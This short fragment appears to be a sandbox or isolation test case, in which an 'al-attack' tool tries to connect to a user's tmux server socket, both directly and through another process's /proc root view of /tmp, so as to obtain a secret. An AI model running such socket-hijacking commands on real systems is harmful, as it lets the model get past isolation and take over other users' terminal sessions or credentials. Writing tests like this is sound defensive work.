# what: connect to the user's tmux server socket /tmp/tmux-1000/default (it hands out a secret), directly and through an outside process's view of /tmp
al-attack connect /tmp/tmux-1000/default
al-attack connect "/proc/$VICTIM/root/tmp/tmux-1000/default"
